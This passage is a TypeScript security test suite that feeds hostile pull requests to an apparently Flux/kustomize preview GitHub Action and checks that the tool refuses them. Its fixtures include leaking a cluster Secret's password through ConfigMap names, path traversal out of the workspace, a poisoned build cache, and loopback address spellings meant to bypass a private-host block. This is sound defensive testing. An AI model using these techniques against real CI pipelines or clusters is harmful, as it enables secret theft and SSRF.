    head: ({ ns }) => ({
      'clusters/prod/subst.yaml': ks(
        KSYS,
        `subst-${ns}`,
        './apps/subst',
        FROM_CHECKOUT,
        '  postBuild:\n    substituteFrom: [{kind: Secret, name: db-admin}]\n',
      ),
      'apps/subst/cm.yaml': Array.from(
        { length: 10 },
        (_, i) =>
          `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: "p${i}-\${password:${3 * i}:3}", namespace: ${ns}}\ndata: {a: b}\n`,
      ).join('---\n'),
    }),
    judge: (run, { D }) => {
      const text = [
        runnerView(run.stdout, 'stdout').shown.join('\n'),
        run.summary,
        JSON.stringify(run.outputs),
        ...run.github,
      ].join('\n');
      const parts = new Map<number, string>();
      for (const m of text.matchAll(/\bp(\d)-([a-z0-9]{3})\b/g)) parts.set(Number(m[1]), m[2]!);
      let got = '';
      for (let i = 0; parts.has(i); i++) got += parts.get(i) ?? '';
      return got.length >= 12 && D.password.value.startsWith(got)
        ? [
            `the first ${got.length} characters of kube-system/db-admin's password can be read from ConfigMap names (${got})`,
          ]
        : [];
    },
  },

  // -- the build cache ---------------------------------------------------------------------------
  {
    id: '9a-build-cache-planted-in-tree',
    title:
      'build-cache set to a directory of the workspace, and the PR carries kustomize outputs there (a ConfigMap no file of the tree defines): refused, nothing planted is planned',
    inputs: () => ({ 'build-cache': '.kr-builds' }),
    head: ({ ns }) =>
      Object.fromEntries(
        ['ab', 'cd', 'ef'].map((shard) => [
          `.kr-builds/${shard}/${shard}${'0'.repeat(62)}`,
          `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: planted-${ns}, namespace: ${ns}}\ndata: {from: cache}\n`,
        ]),
      ),
    judge: (run, { ns }) => {
      const shown = [run.stdout, run.summary, ...run.github].join('\n');
      return [
        ...(shown.includes(`planted-${ns}`) ? ['a ConfigMap planted in the build cache was planned'] : []),
        ...(run.written.some((w) => w.text.includes(`planted-${ns}`)) ? ['the planted ConfigMap was written'] : []),
        ...(/build-cache \S+ is inside the source root/.test(run.stdout)
          ? []
          : ['the run did not refuse a build cache inside the workspace']),
      ];
    },
  },

  // -- the build without kustomize (overlay.ts) ------------------------------------------------
  {
    id: '9b-overlay-resource-outside-workspace',
    title:
      'overlays list a file outside the workspace (an absolute path, and one climbing out with ../), a ConfigMap the runner holds: never read, both refused',
    head: ({ ns }) => {
      // The runner's file outside the checkout, which the tree names.
      const outside = join(tmpdir(), `kr-attack-outside-${ns}`);
      mkdirSync(outside, { recursive: true });
      writeFileSync(join(outside, 'cm.yaml'), `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: runner-file-${ns}}\n`);
      const overlay = (entry: string) =>
        `namespace: ${ns}\nlabels: [{pairs: {team: a}}]\nresources:\n  - own.yaml\n  - ${entry}\n`;
      return {
        'clusters/prod/abs.yaml': ks(ns, 'abs', './apps/abs'),
        'apps/abs/kustomization.yaml': overlay(join(outside, 'cm.yaml')),
        'apps/abs/own.yaml': cm(ns, 'abs'),
        'clusters/prod/rel.yaml': ks(ns, 'rel', './apps/rel'),
        'apps/rel/kustomization.yaml': overlay(`${'../'.repeat(16)}${join(outside, 'cm.yaml').slice(1)}`),
        'apps/rel/own.yaml': cm(ns, 'rel'),
      };
    },
    judge: (run, { ns }) => {
      const shown = [run.stdout, run.summary, ...run.github].join('\n');
      const refused = shown.match(/leaves the source root/g)?.length ?? 0;
      return [
        ...(shown.includes(`runner-file-${ns}`) ? ['the ConfigMap outside the workspace was read and planned'] : []),
        ...(run.written.some((w) => w.text.includes(`runner-file-${ns}`)) ? ['the outside ConfigMap was written'] : []),
        ...(refused >= 2 ? [] : [`expected both entries refused as leaving the source root, saw ${refused}`]),
      ];
    },
  },

  // -- private hosts ----------------------------------------------------------------------------
  {
    id: 'private-host-not-allowed',
    title: 'allow-private-source-hosts unset: a GitRepository at http://127.0.0.1:PORT gets no request at all',
    listeners: { L: challenge },
    inputs: () => ({ 'allow-private-source-hosts': '' }),
    head: ({ ns, L }) => ({
      'clusters/prod/p.yaml':
        gitRepo(ns, 'private', `http://${L['L']!.host}/org/repo`) +
        '---\n' +
        ks(ns, 'private', './', '{kind: GitRepository, name: private}'),
    }),
    judge: (_run, { L }) =>
      L['L']!.connections > 0
        ? [`the listener got ${L['L']!.connections} connection(s), ${L['L']!.records.length} request(s)`]
        : [],
  },
  {
    id: 'private-host-spellings',
    title:
      'allow-private-source-hosts unset: loopback spelled localhost, 127.1, 2130706433, [::ffff:127.0.0.1] (git), localhost (Bucket, OCI)',
    listeners: { L: challenge },
    inputs: () => ({ 'allow-private-source-hosts': '' }),
    head: ({ ns, L }) => {
      const port = L['L']!.port;
      const gits = [`localhost:${port}`, `127.1:${port}`, `2130706433:${port}`, `[::ffff:127.0.0.1]:${port}`];
      const files: Files = {};
      gits.forEach((h, i) => {
        files[`clusters/prod/p${i}.yaml`] =
          gitRepo(ns, `p${i}`, `http://${h}/org/repo`) +
          '---\n' +
          ks(ns, `p${i}`, './', `{kind: GitRepository, name: p${i}}`);
      });
      files['clusters/prod/pb.yaml'] =
        bucket(ns, 'pb', `localhost:${port}`, '  provider: generic\n  region: us-east-1\n') +
        '---\n' +
        ks(ns, 'pb', './', '{kind: Bucket, name: pb}');
      files['clusters/prod/po.yaml'] =
        ociRepo(ns, 'po', `oci://localhost:${port}/x`) +
        '---\n' +
        ks(ns, 'po', './', '{kind: OCIRepository, name: po}');
      return files;
    },
    judge: (_run, { L }) =>
      L['L']!.connections > 0
        ? [
            `the listener got ${L['L']!.connections} connection(s): ${L['L']!.records.map((r) => `${r.method} ${r.url}`).join(', ')}`,
          ]
        : [],
  },

  // -- positive controls: a legitimate send is seen -------------------------------------------------
  {
    id: 'control-git-base-definition',
    title: "control: a BASE GitRepository (unchanged, its own namespace's Secret) gets that Secret's basic auth",
    control: true,
    listeners: { L1: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        gitRepo(ns, 'tenant', `http://${L['L1']!.host}/org/tenant.git`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: GitRepository, name: tenant}'),
    }),
    head: ({ ns }) => ({ 'apps/app/cm.yaml': cm(ns, 'app-settings', 'a: changed') }),
    allowed: ({ G }) => ({ L1: canaryList(G) }),
    judge: (_run, { L, G }) =>
      [basic(G.username.value, G.password.value), `Bearer ${G.bearerToken.value}`].some((a) =>
        sentTo(L['L1']!).includes(`: ${a}`),
      )
        ? []
        : ['the listener did not receive the Authorization of the Secret the BASE definition names'],
  },
  {
    id: 'control-bucket-base-definition',
    title: "control: a BASE Bucket (unchanged, its own namespace's Secret) signs with that Secret's accesskey",
    control: true,
    listeners: { L1: s3 },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        bucket(
          ns,
          'tenant',
          L['L1']!.host,
          '  provider: generic\n  region: us-east-1\n  secretRef: {name: git-auth}\n',
        ) +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: Bucket, name: tenant}'),
    }),
    head: ({ ns }) => ({ 'apps/app/cm.yaml': cm(ns, 'app-settings', 'a: changed') }),
    allowed: ({ G }) => ({ L1: canaryList(G) }),
    judge: (_run, { L, G }) =>
      sentTo(L['L1']!).includes(`Credential=${G.accesskey.value}/`)
        ? []
        : ['the listener did not receive a signature with the accesskey of the Secret the BASE definition names'],
  },
  {
    id: 'control-oci-base-definition',
    title: "control: a BASE OCIRepository (unchanged, its own namespace's dockerconfigjson) gets that login",
    control: true,
    listeners: { L1: challenge },
    base: ({ ns, L }) => ({
      'clusters/prod/tenant.yaml':
        ociRepo(ns, 'tenant', `oci://${L['L1']!.host}/x`, '  secretRef: {name: git-auth}\n') +
        '---\n' +
        ks(ns, 'tenant', './', '{kind: OCIRepository, name: tenant}'),
    }),
    head: ({ ns }) => ({ 'apps/app/cm.yaml': cm(ns, 'app-settings', 'a: changed') }),
    allowed: ({ G }) => ({ L1: canaryList(G) }),
    judge: (_run, { L, G }) =>
      sentTo(L['L1']!).includes(basic(G.dockerUser.value, G.dockerPassword.value))
        ? []
        : ['the listener did not receive the login of the Secret the BASE definition names'],
  },
];

const MARKERS = new Map(CASES.map((c) => [c.id, `KRATTACK${randomBytes(3).toString('hex')}`]));

/** The listener's mode with the case's marker in the text it answers with. */
function withMarker(mode: ListenerMode, marker: string): ListenerMode {
  return mode.kind === 's3' || mode.kind === 'oci-error'
    ? {
        ...mode,
        ...(mode.message !== undefined ? { message: mode.message.replaceAll('MARKER-PLACEHOLDER', marker) } : {}),
      }
    : mode;
}

/**
 * The runner's cancellation, once the run holds a fetched tree (a file named the case's marker
 * under TMPDIR or RUNNER_TEMP; at most 40 s): SIGINT, SIGTERM 7.5 s later, SIGKILL 2.5 s after.
 */
function cancelWhenFetched(ctx: Ctx): NonNullable<Case['during']> {
  return (child, dirs) => {
    const marker = String(ctx.extra['marker']);
    const started = Date.now();
    const state = { exited: false };
    child.on('exit', () => {
      state.exited = true;
    });
    const running = () => !state.exited;
    const poll = async (): Promise<void> => {
      while (!state.exited && Date.now() - started < 40_000) {
        const found = [...(await findNamed(dirs.tmp, marker)), ...(await findNamed(dirs.runnerTemp, marker))];
        if (found.length > 0) break;
        await new Promise((r) => setTimeout(r, 100));
      }
      if (state.exited) return;
      ctx.extra['cancelled'] = true;
      child.kill('SIGINT');
      await new Promise((r) => setTimeout(r, 7_500));
      if (running()) child.kill('SIGTERM');
      await new Promise((r) => setTimeout(r, 2_500));
      if (running()) child.kill('SIGKILL');
    };
    void poll();
  };
}

// ---- the suite ----------------------------------------------------------------------------------

describe.concurrent('hostile pull requests (preview on a pull_request event, bundled action)', () => {
  let client: ClusterClient;
  let github: FakeGitHub;
  let kubeconfig: string;
  let K: SecretCanaries;
  let D: SecretCanaries;
  let I: InputCanaries;
  const listeners = new Map<string, Record<string, Listener>>();

  beforeAll(async () => {
    client = await adminClient();
    kubeconfig = await readFile(kubeconfigPath(), 'utf8');
    I = await inputCanaries();
    github = await startFakeGitHub({
      tokens: { [I.githubToken.value]: { pull_requests: 'write', checks: 'write', contents: 'read' } },
    });
    // Every listener up front: kube-system/registry-admin's .dockerconfigjson has a login for each.
    const hosts: string[] = ['ghcr.io'];
    for (const c of CASES) {
      const mine: Record<string, Listener> = {};
      for (const [name, mode] of Object.entries(c.listeners ?? {})) {
        const l = await startListener(`${c.id}/${name}`, withMarker(mode, MARKERS.get(c.id)!));
        mine[name] = l;
        hosts.push(l.host, `localhost:${l.port}`);
      }
      listeners.set(c.id, mine);
    }
    K = secretCanaries('Secret kube-system/registry-admin');
    await putSecret(client, KSYS, 'registry-admin', secretData(K, hosts));
    D = secretCanaries('Secret kube-system/db-admin');
    await putSecret(client, KSYS, 'db-admin', { username: D.username.value, password: D.password.value });
  }, 60_000);

  afterAll(async () => {
    for (const mine of listeners.values()) for (const l of Object.values(mine)) await l.close();
    await github.close();
    for (const name of ['registry-admin', 'db-admin'])
      await client.request('DELETE', `/api/v1/namespaces/${KSYS}/secrets/${name}`).catch(() => undefined);
    client.close();
  });

  it.each(CASES.map((c, i) => [c.id, c, i] as const))('%s', async (_id, c, index) => {
    let run: HostileRun | undefined;
    const cleanups: (() => Promise<unknown>)[] = [];
    const body = async (evidence: string[], result: Record<string, unknown>) => {
      const ns = await freshNamespace(client, 'atk');
      cleanups.push(() => client.request('DELETE', `/api/v1/namespaces/${ns}`));
      const L = listeners.get(c.id)!;
      const N = secretCanaries(`Secret ${ns}/registry-admin`);
      const G = secretCanaries(`Secret ${ns}/git-auth`);
      const hosts = ['ghcr.io', ...Object.values(L).flatMap((l) => [l.host, `localhost:${l.port}`])];
      await putSecret(client, ns, 'registry-admin', secretData(N, hosts));
      await putSecret(client, ns, 'git-auth', secretData(G, hosts));
      const marker = MARKERS.get(c.id)!;
      const ctx: Ctx = {
        ns,
        marker,
        L,
        K,
        D,
        N,
        G,
        I,
        extra: {},
        canaries: [...canaryList(K), D.username, D.password, ...canaryList(N), ...canaryList(G), ...inputCanaryList(I)],
      };
      for (const object of c.live?.(ns) ?? []) {
        const kind = String(object['kind']).toLowerCase();
        await client.request('POST', `/api/v1/namespaces/${ns}/${kind}s`, { body: object });
      }
      const done = await c.prepare?.(ctx);
      if (done) cleanups.push(done);
      const inputs: Record<string, string> = {
        kubeconfig,
        mode: c.mode ?? 'preview',
        kustomizations: 'clusters/prod/*.yaml',
        'github-token': I.githubToken.value,
        'git-credentials': `github.com: ${I.gitToken.value}\n`,
        'registry-credentials': `ghcr.io: "${I.registryUser.value}:${I.registryPassword.value}"\n`,
        'sops-age-key': I.ageKey.value,
        'allow-private-source-hosts': 'true',
        ...(c.inputs?.(ctx) ?? {}),
      };
      run = await runHostile({
        client,
        github,
        number: 100 + index,
        base: { ...baseTree(ns), ...(c.base?.(ctx) ?? {}) },
        head: c.head(ctx),
        inputs,
        env: {
          AWS_ACCESS_KEY_ID: I.awsKeyId.value,
          AWS_SECRET_ACCESS_KEY: I.awsSecret.value,
          AWS_SESSION_TOKEN: I.awsSession.value,
          AWS_REGION: 'us-east-1',
        },
        ...(c.timeoutMs !== undefined ? { timeoutMs: c.timeoutMs } : {}),
        ...(c.id === '7b-cancelled-run-left-behind' ? { during: cancelWhenFetched(ctx) } : {}),
      });
      Object.assign(result, {
        exitCode: run.code,
        runMs: run.ms,
        timedOut: run.timedOut === true,
        peakScratchMiB: Math.round(run.peakScratch / MiB),
        peakRssMiB: Math.round(run.peakRss / MiB),
        log: tail(`${run.stdout}\n${run.stderr}`),
      });
      evidence.push(
        ...evidenceOf({
          run,
          canaries: ctx.canaries,
          listeners: Object.entries(L).map(([name, listener]) => ({
            listener,
            allowed: c.allowed?.(ctx)[name] ?? [],
          })),
          ...(c.marker ? { marker } : {}),
          namespace: ns,
        }),
        ...((await c.judge?.(run, ctx)) ?? []),
      );
    };
    await attackCase(
      c,
      async (evidence, result) => {
        try {
          await body(evidence, result);
        } finally {
          result['requests'] = requestsOf(listeners.get(c.id) ?? {});
        }
      },
      async () => {
        if (run) await cleanupRun(run);
        for (const f of cleanups.reverse()) await f().catch(() => undefined);
      },
    );
  });
});

/** The last lines of a log, for the result file. */
function tail(text: string): string {
  return text.split('\n').slice(-60).join('\n');
}

/** What each listener of a case received, for the result file (the scheme of an Authorization, not its value). */
function requestsOf(mine: Record<string, Listener>): Record<string, { connections: number; requests: string[] }> {
  return Object.fromEntries(
    Object.entries(mine).map(([name, l]) => [
      name,
      {
        connections: l.connections,
        requests: l.records.map((r) => {
          const auth = r.headers.find(([k]) => k.toLowerCase() === 'authorization')?.[1];
          return `${r.method} ${r.url.slice(0, 120)}${auth === undefined ? '' : ` (Authorization: ${auth.split(' ')[0]} …)`}`;
        }),
      },
    ]),
  );
}
